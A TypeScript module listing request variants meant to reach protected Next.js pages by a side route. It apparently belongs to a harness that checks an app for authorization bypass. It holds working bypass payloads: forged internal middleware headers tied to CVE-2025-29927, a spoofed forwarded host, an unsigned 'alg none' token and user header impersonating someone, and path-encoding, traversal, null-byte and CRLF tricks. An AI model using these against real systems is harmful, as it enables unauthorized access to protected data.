/** A way to ask for a page or a route other than by its plain address: a path made from it, headers besides it. */
export type Trick = {
  title: string;
  path?: (plain: string) => string;
  headers?: (plain: string) => Record<string, string>;
};

const header = (name: string, value: string | ((plain: string) => string)): Trick => ({
  title: `${name}: ${typeof value === "string" ? value : "the address"}`,
  headers: (plain) => ({ [name]: typeof value === "string" ? value : value(plain) }),
});
const path = (title: string, change: (plain: string) => string): Trick => ({ title, path: change });

const times = (name: string, count: number) => Array.from({ length: count }, () => name).join(":");
const lastOf = (plain: string) => plain.lastIndexOf("/") + 1;
const upper = (plain: string) => plain.toUpperCase();

/**
 * What has got past the middleware of Next and of servers in front of it, or made one half of a system read an address
 * otherwise than the other: CVE-2025-29927, CVE-2026-44573 to 44575 and their kin, GHSA-267c-6grr-h53f.
 */
export const TRICKS: readonly Trick[] = [
  { title: "plainly" },
  ...["middleware", "src/middleware", "proxy", "src/proxy", "pages/_middleware", "/proxy"].flatMap((name) =>
    [1, 5].map((count) => header("x-middleware-subrequest", times(name, count))),
  ),
  header("x-middleware-next", "1"),
  header("x-middleware-rewrite", (plain) => plain),
  header("x-middleware-prefetch", "1"),
  header("x-middleware-override-headers", "cookie"),
  header("x-middleware-invoke", "1"),
  header("x-nextjs-data", "1"),
  header("x-invoke-path", (plain) => plain),
  header("x-invoke-output", (plain) => plain),
  header("x-invoke-status", "200"),
  header("x-matched-path", (plain) => plain),
  header("x-now-route-matches", "1"),
  header("x-next-resume-state-length", "1"),
  header("next-resume", "1"),
  header("x-prerender-revalidate", "1"),
  header("rsc", "1"),
  header("next-router-prefetch", "1"),
  header("next-router-segment-prefetch", "/_tree"),
  header("next-router-segment-prefetch", "/_full"),
  { title: "rsc and prefetch", headers: () => ({ rsc: "1", "next-router-prefetch": "1", purpose: "prefetch" }) },
  {
    title: "rsc and a state tree",
    headers: () => ({
      rsc: "1",
      "next-router-state-tree": encodeURIComponent(
        JSON.stringify(["", { children: ["__PAGE__", {}] }, null, "refetch"]),
      ),
    }),
  },
  header("next-url", (plain) => plain),
  header("next-action", "00000000000000000000000000000000000000000"),
  header("x-original-url", (plain) => plain),
  header("x-rewrite-url", (plain) => plain),
  header("x-forwarded-host", "evil.example"),
  header("x-forwarded-proto", "https"),
  header("x-forwarded-uri", (plain) => plain),
  header("x-http-method-override", "GET"),
  header("authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhdXRoMHxsb2NhbC1haWtvLXRhbmFrYSJ9."),
  header("x-user", "auth0|local-aiko-tanaka"),
  path(".rsc", (plain) => `${plain}.rsc`),
  path("?_rsc=", (plain) => `${plain}${plain.includes("?") ? "&" : "?"}_rsc=1x2y3`),
  path(".segments", (plain) => `${plain}.segments/_tree.segment.rsc`),
  path(".prefetch.rsc", (plain) => `${plain}.prefetch.rsc`),
  path(".json", (plain) => `${plain}.json`),
  path("two slashes", (plain) => `/${plain}`),
  path("a slash at the end", (plain) => `${plain}/`),
  path("two slashes inside", (plain) => plain.replace(/\/(?=[^/]+$)/, "//")),
  path("an encoded slash", (plain) => `/${plain.slice(1).replaceAll("/", "%2f")}`),
  path("a twice encoded slash", (plain) => `/${plain.slice(1).replaceAll("/", "%252f")}`),
  path("an encoded slash in front", (plain) => `/%2f${plain.slice(1)}`),
  path("a backslash", (plain) => `/${plain.slice(1).replaceAll("/", "\\")}`),
  path("an encoded backslash", (plain) => `/${plain.slice(1).replaceAll("/", "%5c")}`),
  path("an encoded letter", (plain) => `/%${plain.charCodeAt(1).toString(16)}${plain.slice(2)}`),
  path("a dot segment", (plain) => `/.${plain}`),
  path("an encoded dot segment", (plain) => `/%2e${plain}`),
  path("up and back", (plain) => `/signin/..${plain}`),
  path("up from static files", (plain) => `/_next/static/..%2f..${plain}`),
  path("up from the API", (plain) => `/api/auth/../..${plain}`),
  path("a dot at the end", (plain) => `${plain}.`),
  path("an encoded dot at the end", (plain) => `${plain}%2e`),
  path("a space at the end", (plain) => `${plain}%20`),
  path("a zero at the end", (plain) => `${plain}%00`),
  path("a line end", (plain) => `${plain}%0d%0a`),
  path("a path parameter", (plain) => `${plain};x=1`),
  path("in capitals", (plain) => upper(plain)),
  path("the name in capitals", (plain) => `${plain.slice(0, lastOf(plain))}${upper(plain.slice(lastOf(plain)))}`),
  path("_next/data", (plain) => `/_next/data/build${plain}.json`),
  path("_next/image", (plain) => `/_next/image?url=${encodeURIComponent(plain)}&w=64&q=75`),
  path("a route group", (plain) => `/(chat)${plain}`),
  path("an absolute address", (plain) => `http://localhost${plain}`),
  path("an absolute address of another", (plain) => `http://evil.example${plain}`),
  path("a locale", (plain) => `/en${plain}`),
  path("too bad an escape", (plain) => `${plain}/%E0%A4%A`),
];
